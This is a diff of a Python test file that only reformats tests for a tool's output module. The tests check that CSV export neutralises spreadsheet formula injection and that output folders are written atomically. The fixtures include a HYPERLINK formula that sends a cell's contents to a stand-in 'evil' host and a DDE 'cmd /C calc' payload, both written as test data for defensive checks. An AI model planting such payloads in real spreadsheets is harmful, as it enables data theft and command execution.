@@ -32,13 +32,13 @@ def test_write_csv_neutralises_formula_cells_and_keeps_numbers(tmp_path):
     df["minutes"] = [-1.5, 2.0, -3.0]
     write_csv(df, tmp_path / "out.csv")
     rows = cells(tmp_path / "out.csv")
-    assert rows[1][0] == "'=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")"
+    assert rows[1][0] == '\'=HYPERLINK("http://evil/?x="&A1,"click")'
     assert rows[1][3:5] == ["'=1+1", "'@SUM(A1)"]
-    assert rows[2][0] == "'+441234"                          # a phone number stays text, neutralised
+    assert rows[2][0] == "'+441234"  # a phone number stays text, neutralised
     assert rows[2][3] == "'-1+cmd|' /C calc'!A0"
     assert rows[2][4] == "'\ttab"
-    assert rows[3][0] == "-0.5"                              # text that is a negative number is left alone
-    assert [r[5] for r in rows[1:]] == ["-1.5", "2.0", "-3.0"]   # real numbers stay numbers
+    assert rows[3][0] == "-0.5"  # text that is a negative number is left alone
+    assert [r[5] for r in rows[1:]] == ["-1.5", "2.0", "-3.0"]  # real numbers stay numbers
     assert rows[3][1:3] == ["51.75", "0.48"]
 
 
@@ -52,16 +52,23 @@ def test_write_csv_neutralises_header_index_and_carriage_return(tmp_path):
 
 
 def test_neutralise_frame_handles_every_dtype():
-    df = pd.DataFrame({"obj": ["=a", 1, None], "s": pd.Series(["+1", "x", None], dtype="string"),
-                       "cat": pd.Categorical(["@x", "y", "@x"]), "b": [True, False, True],
-                       "t": pd.to_datetime(["2021-01-01"] * 3, utc=True), "i": pd.array([1, None, -3], dtype="Int64"),
-                       "f": [-1.0, float("nan"), 2.0]})
+    df = pd.DataFrame(
+        {
+            "obj": ["=a", 1, None],
+            "s": pd.Series(["+1", "x", None], dtype="string"),
+            "cat": pd.Categorical(["@x", "y", "@x"]),
+            "b": [True, False, True],
+            "t": pd.to_datetime(["2021-01-01"] * 3, utc=True),
+            "i": pd.array([1, None, -3], dtype="Int64"),
+            "f": [-1.0, float("nan"), 2.0],
+        }
+    )
     out = outputs.neutralise_frame(df)
     assert out["obj"].tolist()[:2] == ["'=a", 1] and out["obj"].iloc[2] is None
     assert out["s"].tolist()[:2] == ["'+1", "x"] and out["cat"].tolist() == ["'@x", "y", "'@x"]
     for col in ("b", "t", "i", "f"):
         pd.testing.assert_series_equal(out[col], df[col])
-    assert df["obj"].iloc[0] == "=a"                              # the input frame is not changed
+    assert df["obj"].iloc[0] == "=a"  # the input frame is not changed
 
 
 def test_atomic_path_keeps_the_suffix_for_gdal(tmp_path):
@@ -78,7 +85,14 @@ def test_atomic_path_keeps_the_suffix_for_gdal(tmp_path):
 
 def test_neutralise_cell_rules():
     assert [outputs.neutralise_cell(v) for v in ("-12", "-1e-3", "-.5", "-", "--1", "- 1", "a=b")] == [
-        "-12", "-1e-3", "-.5", "'-", "'--1", "'- 1", "a=b"]
+        "-12",
+        "-1e-3",
+        "-.5",
+        "'-",
+        "'--1",
+        "'- 1",
+        "a=b",
+    ]
     assert outputs.neutralise_cell(-7) == -7 and outputs.neutralise_cell(None) is None
 
 
@@ -91,7 +105,7 @@ def test_write_text_and_json_are_atomic_and_leave_no_temp(tmp_path):
     assert json.loads((tmp_path / "a.json").read_text()) == {"x": None, "y": [1, 2]}
     assert sorted(p.name for p in tmp_path.iterdir()) == ["a.json", "a.txt"]
     mode = (tmp_path / "a.txt").stat().st_mode & 0o777
-    assert mode == 0o666 & ~outputs._umask()                 # not tempfile's 0600
+    assert mode == 0o666 & ~outputs._umask()  # not tempfile's 0600
 
 
 def test_failed_csv_write_keeps_previous_file(tmp_path):
@@ -119,7 +133,7 @@ def test_folder_appears_whole_with_manifest(tmp_path):
     with OutputFolder(out_dir) as out:
         write_csv(pd.DataFrame({"a": [1]}), out.path("a.csv"))
         write_text("# r\n", out.folder("ncmg") / "report.md")
-        assert not out_dir.exists()                            # nothing visible until the end
+        assert not out_dir.exists()  # nothing visible until the end
     manifest = json.loads((out_dir / MANIFEST_NAME).read_text())
     assert sorted(manifest["files"]) == ["a.csv", "ncmg/report.md"]
     assert manifest["files"]["a.csv"]["sha256"] == outputs.sha256_file(out_dir / "a.csv")
@@ -160,7 +174,7 @@ def test_rerun_replaces_own_files_and_removes_stale_ones(tmp_path):
     with OutputFolder(out_dir) as out:
         write_text("1", out.path("a.csv"))
         write_text("1", out.path("hotspots.csv"))
-    (out_dir / "notes.txt").write_text("mine")               # the user's own file is left alone
+    (out_dir / "notes.txt").write_text("mine")  # the user's own file is left alone
     with OutputFolder(out_dir) as out:
         write_text("2", out.path("a.csv"))
     assert sorted(p.name for p in out_dir.iterdir()) == sorted([MANIFEST_NAME, "a.csv", "notes.txt"])
@@ -172,7 +186,7 @@ def test_refuses_files_it_did_not_write_unless_overwrite(tmp_path):
     out_dir.mkdir()
     (out_dir / "report.md").write_text("the user's report")
     with pytest.raises(OutputError, match=r"not written by geo-response .* --overwrite"):
-        OutputFolder(out_dir, expected=["report.md"]).__enter__()     # before the run starts
+        OutputFolder(out_dir, expected=["report.md"]).__enter__()  # before the run starts
     with pytest.raises(OutputError, match="--overwrite"), OutputFolder(out_dir) as out:
         write_text("new", out.path("report.md"))
     assert (out_dir / "report.md").read_text() == "the user's report"
@@ -281,7 +295,7 @@ def test_output_file_with_companion_and_gpkg_suffix(tmp_path):
     assert cells(target) == [["id"], ["'=x"]]
     assert json.loads((tmp_path / "tt.csv.json").read_text()) == {"n": 1}
     assert sorted(outputs.read_manifest(tmp_path)) == ["tt.csv", "tt.csv.json"]
-    with OutputFile(target, companions=(".json",)) as f:    # ours: replaced without overwrite
+    with OutputFile(target, companions=(".json",)) as f:  # ours: replaced without overwrite
         write_csv(pd.DataFrame({"id": ["y"]}), f.path)
     assert cells(target) == [["id"], ["y"]]
 
